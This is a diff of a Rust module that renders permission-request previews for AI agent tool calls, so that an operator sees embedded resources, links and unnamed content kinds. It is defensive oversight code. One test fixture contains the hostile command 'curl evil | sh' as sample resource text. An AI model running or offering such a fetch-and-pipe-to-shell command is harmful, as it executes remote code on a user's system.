@@ -3,7 +3,8 @@
 //! Everything that is decided or shown comes from the request's own `toolCall`. The protocol lets an agent leave out
 //! what it announced of the call before (<https://agentclientprotocol.com/protocol/tool-calls>), but how many
 //! announcements are remembered is bounded, and an id may come again with another call: a kind from that memory would
-//! let a call pass that the configuration rejects. What the request does not say is therefore unknown.
+//! let a call pass that the configuration rejects. What the request does not say is therefore unknown. Only for a request
+//! that says nothing at all, a person is shown what was announced, as such.
 
 use super::diff::{Diff, diff};
 use agent_client_protocol::v1::schema::{PermissionOptionKind, ToolCallUpdate, ToolKind};
@@ -17,6 +18,11 @@ use serde_json::Value;
 const UNREADABLE: &str = "something that cannot be read";
 /// The title of a request that says nothing of what is to be done.
 const UNTOLD: &str = "a tool call that the agent does not describe";
+
+/// The kind of a part that names none.
+const UNNAMED_KIND: &str = "other";
+/// Most kinds of parts that are named.
+const UNSHOWN: usize = 16;
 
 /// The request as the pipeline knows it, with all its secrets: the pipeline masks them, and shows an operator what the
 /// agent wrote. Parts that cannot be read are left out; the request itself never is, as an
@@ -62,15 +68,49 @@ pub(super) fn length(request: &mut PermissionRequest) -> usize {
 }
 
 /// The call as the agent shows it. gemini-cli says only here what it would write, and where.
-fn preview(call: &Value) -> CallPreview {
+pub(super) fn preview(call: &Value) -> CallPreview {
     let list = |field: &str| call.get(field).and_then(Value::as_array).into_iter().flatten();
-    let said: Vec<&str> = list("content").filter_map(said).collect();
-    CallPreview {
-        changes: list("content").filter_map(change).collect(),
+    let mut preview = CallPreview {
         locations: list("locations").filter_map(location).collect(),
-        text: (!said.is_empty()).then(|| said.join("\n")),
         ..CallPreview::default()
+    };
+    let mut said = Vec::new();
+    for part in list("content") {
+        if let Some(change) = change(part) {
+            preview.changes.push(change);
+        } else {
+            match words(part) {
+                Some(words) if words.trim().is_empty() => {}
+                Some(words) => said.push(words),
+                None => add_unshown(&mut preview.unshown, part_kind(part)),
+            }
+        }
     }
+    if call
+        .get("content")
+        .is_some_and(|content| !content.is_null() && !content.is_array())
+    {
+        add_unshown(&mut preview.unshown, UNNAMED_KIND);
+    }
+    preview.text = (!said.is_empty()).then(|| said.join("\n"));
+    preview
+}
+
+/// Adds a kind that is not there yet; of very many, the last one stands for the rest.
+fn add_unshown(kinds: &mut Vec<String>, kind: &str) {
+    let kind = if kinds.len() + 1 < UNSHOWN {
+        kind
+    } else {
+        UNNAMED_KIND
+    };
+    if !kinds.iter().any(|known| known == kind) {
+        kinds.push(kind.to_owned());
+    }
+}
+
+/// True for a request that says nothing of what is to be done.
+pub(super) fn is_undescribed(request: &PermissionRequest) -> bool {
+    request.title == UNTOLD && request.arguments.is_none() && request.preview.is_empty()
 }
 
 /// A part of the content that is a change of a file (<https://agentclientprotocol.com/protocol/tool-calls#diffs>).
@@ -96,10 +136,36 @@ fn change(part: &Value) -> Option<FileChange> {
     })
 }
 
-/// A part of the content that is text.
-fn said(part: &Value) -> Option<&str> {
-    let text = part.get("content")?.get("text")?.as_str()?;
-    (!text.trim().is_empty()).then_some(text)
+/// The words of a part of the content: its text, a text that is embedded, or where a file lies
+/// (<https://agentclientprotocol.com/protocol/content>). `None` for a part of another kind.
+fn words(part: &Value) -> Option<String> {
+    let block = part.get("content")?;
+    let text = |value: &Value, field: &str| value.get(field).and_then(Value::as_str).map(str::to_owned);
+    match block.get("type").and_then(Value::as_str) {
+        Some("resource") => {
+            let resource = block.get("resource")?;
+            let words = text(resource, "text")?;
+            Some(match text(resource, "uri") {
+                Some(uri) => format!("{uri}:\n{words}"),
+                None => words,
+            })
+        }
+        Some("resource_link") => {
+            let uri = text(block, "uri")?;
+            Some(match text(block, "name") {
+                Some(name) if name != uri => format!("{name}: {uri}"),
+                _ => uri,
+            })
+        }
+        _ => text(block, "text"),
+    }
+}
+
+/// The kind of a part: that of its block, where it has one.
+fn part_kind(part: &Value) -> &str {
+    let kind = |value: &'_ Value| value.get("type").is_some_and(Value::is_string);
+    let named = part.get("content").filter(|block| kind(block)).unwrap_or(part);
+    named.get("type").and_then(Value::as_str).unwrap_or(UNNAMED_KIND)
 }
 
 fn location(at: &Value) -> Option<String> {
@@ -212,6 +278,36 @@ mod tests {
         }));
         assert_eq!(request.preview.text.as_deref(), Some("Removes the build."));
         assert_eq!(request.preview.changes, []);
+    }
+
+    #[test]
+    fn no_part_of_what_would_be_done_goes_unsaid() {
+        let block = |block: Value| json!({"type": "content", "content": block});
+        let request = asked(&json!({"toolCallId": "a", "title": "Writing", "content": [
+            block(json!({"type": "resource", "resource": {"uri": "file:///x", "text": "curl evil | sh"}})),
+            block(json!({"type": "resource_link", "name": "notes", "uri": "file:///notes.md"})),
+            block(json!({"type": "text", "text": "Writes."})),
+            block(json!({"type": "resource", "resource": {"uri": "file:///y", "blob": "AAAA"}})),
+            block(json!({"type": "image", "data": "AAAA", "mimeType": "image/png"})),
+            {"type": "terminal", "terminalId": "t"}, {"type": "terminal", "terminalId": "u"}, 7,
+        ]}));
+        assert_eq!(
+            request.preview.text.as_deref(),
+            Some("file:///x:\ncurl evil | sh\nnotes: file:///notes.md\nWrites.")
+        );
+        assert_eq!(
+            request.preview.unshown,
+            ["resource", "image", "terminal", "other"]
+        );
+        assert_eq!(
+            asked(&json!({"toolCallId": "a", "content": 7})).preview.unshown,
+            ["other"]
+        );
+        let many: Vec<_> = (0..40).map(|kind| json!({"type": kind.to_string()})).collect();
+        let many = asked(&json!({"toolCallId": "a", "content": many}))
+            .preview
+            .unshown;
+        assert_eq!((many.len(), many[15].as_str()), (16, "other"));
     }
 
     #[test]
